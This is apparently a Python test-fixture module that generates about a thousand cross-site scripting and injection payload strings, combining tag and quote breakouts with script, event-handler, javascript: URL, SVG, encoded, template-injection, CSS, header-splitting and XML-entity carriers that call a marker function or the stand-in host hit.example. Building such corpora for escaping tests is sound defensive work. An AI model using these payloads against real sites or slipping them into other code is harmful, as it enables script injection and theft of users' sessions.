"""A thousand texts that would be markup, script, style or code wherever a page forgets that they are text.

Each would call `hit(…)`, ask the host hit.example for something, or leave an element, an attribute or
an address that the judge in `injected` looks for.
"""

from itertools import product

#: What would run.
_ACTS = (
    "hit(1)", "hit`1`", "alert(1)", "top.hit(1)", "self['hi'+'t'](1)", "eval('hit(1)')", "hit(document.domain)",
    "import('//hit.example/1')", "fetch('//hit.example/1')", "setTimeout('hit(1)')", "location='//hit.example/1'",
)  # fmt: skip
#: Ways out of where a text may stand.
_WAYS_OUT = (
    "", '">', "'>", "</title>", "</script>", "</style>", "</textarea>", "-->", "]]>", "`>", "</bdi></p>", "&gt;",
    "\\\">", "</option></select>", "?>", "*/",
)  # fmt: skip
_CARRIERS = (
    "<script hit>{}</script>", "<script hit src=//hit.example/1></script>", "<img hit src=x onerror={}>",
    "<svg hit onload={}>", "<svg hit><script>{}</script></svg>", "<svg hit><a xlink:href='javascript:{}'>x</a></svg>",
    "<svg hit><animate onbegin={} attributeName=x dur=1s>", "<svg hit><set attributeName=href to=javascript:{}>",
    "<svg hit><foreignObject><body onload={}></foreignObject></svg>", "<svg hit><use href='data:image/svg+xml,<svg/>#x'>",
    "<math hit><mtext><img src=x onerror={}></math>", "<math hit><maction xlink:href=javascript:{}>x</maction></math>",
    "<body hit onload={}>", "<iframe hit srcdoc='<script>{}</script>'>", "<iframe hit src=javascript:{}>",
    "<object hit data='javascript:{}'>", "<embed hit src='javascript:{}'>", "<a hit href='javascript:{}'>x</a>",
    "<a hit href='JaVa&#x0A;ScRiPt:{}'>x</a>", "<form hit action='javascript:{}'><button>x</button></form>",
    "<button hit formaction='javascript:{}'>x</button>", "<input hit autofocus onfocus={}>",
    "<details hit open ontoggle={}>", "<video hit><source onerror={}></video>", "<audio hit src=x onerror={}>",
    "<marquee hit onstart={}>", "<style hit>@import '//hit.example/1';</style>", "<link hit rel=stylesheet href=//hit.example/1>",
    "<style hit>*{{background:url(//hit.example/1)}}</style>", "<base hit href=//hit.example/>",
    "<meta hit http-equiv=refresh content='0;url=javascript:{}'>", "<template hit><script>{}</script></template>",
    "<x-hit onclick={}>x</x-hit>", "<noscript hit><p title='</noscript><img src=x onerror={}>'>",
    "<table hit><td background='javascript:{}'>", "<select hit><option onclick={}>", "<dialog hit open onclose={}>",
    "<p hit style='animation:x' onanimationstart={}>", "<xmp hit><p title='</xmp><img src=x onerror={}>'>",
    "<!--><img hit src=x onerror={}>-->", "<![CDATA[<img hit src=x onerror={}>]]>", "<?xml-stylesheet href='//hit.example/1'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM '//hit.example/1'>]><x-hit>&e;</x-hit>",
    "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>{}</html:script>", "&lt;img hit src=x onerror={}&gt;",
    "&#60;script hit&#62;{}&#60;/script&#62;", "&amp;lt;script hit&amp;gt;{}&amp;lt;/script&amp;gt;",
    "%3Cscript%20hit%3E{}%3C/script%3E", "\\u003cscript hit\\u003e{}\\u003c/script\\u003e", "\\x3cimg hit onerror={}\\x3e",
    "＜script hit＞{}＜/script＞", "‹script hit›{}‹/script›", "<scr<script hit>ipt>{}</script>", "<ScRiPt hit>{}</sCrIpT>",
    "<script/hit>{}</script", "<img/hit/src=x/onerror={}>", "<<img hit src=x onerror={}>", "<p hit\nonclick={}>",
)  # fmt: skip
#: What has to stand whole: attributes, addresses, templates, JSON, code and style.
_WHOLE = (
    '" hit onmouseover={} x="', "' hit onmouseover={} x='", "` hit onmouseover={} x=`", '" hit autofocus onfocus="{}', " hit onclick={} ",
    "javascript:{}", "JAVASCRIPT:{}", "javascript&colon;{}", "java\nscript:{}", "javascript://%0a{}", "vbscript:{}",
    "data:text/html,<script hit>{}</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=#{}",
    "data:image/svg+xml,<svg onload={}>", "blob:{}", "view-source:javascript:{}", "https://x\" hit onclick=\"{}",
    "https://x/' hit onclick='{}", "https://hit.example/<script hit>{}</script>", "//hit.example/{}",
    "{{{{{}}}}}", "{{{{7*7}}}}{}", "${{{}}}", "#{{{}}}", "<%= {} %>", "{{% raw %}}{}{{% endraw %}}", "{{# {} #}}", "[[${{{}}}]]",
    "{{{{''.__class__.__mro__}}}}{}", "{{{{config.items()}}}}{}", "{{{{constructor.constructor('{}')()}}}}", "%({})s", "%(region)s{}",
    '"}};{};//', '"}}]}}</script><script hit>{}</script>', "\\\"}});{}//", "';{};'", '";{};"', "`;{};`", "\\';{};//", "</script\n><script hit>{}</script>",
    "<!--<script>{}", "<!--<script hit>{}</script>--><script>", "*/{}/*", "}}{}{{", "expression({})", "}}*{{x:url(//hit.example/1)}}{}",
    "red;background:url('javascript:{}')", "@import'//hit.example/1';{}", "\u2028{}\u2029", "\x00<script hit>{}</script>", "\ufeff{}",
    "+ADw-script hit+AD4-{}+ADw-/script+AD4-", "\u202e<script hit>{}</script>", "a\r\nContent-Type: text/html\r\n\r\n<script hit>{}</script>",
    "__proto__[hit]={}", "constructor.prototype.hit={}", "window.name={}", "onload={}", "$&<img hit src=x onerror={}>",
)  # fmt: skip
_WITHIN = tuple(f"{way}{carrier}" for carrier, way in product(_CARRIERS, _WAYS_OUT))
#: Every carrier after every way out, each with another act, and the whole ones with each of four acts.
ALL = tuple(
    dict.fromkeys(
        [shape.format(act) for shape in _WHOLE for act in _ACTS[:4]]
        + [shape.format(_ACTS[place % len(_ACTS)]) for place, shape in enumerate(_WITHIN)]
    )
)
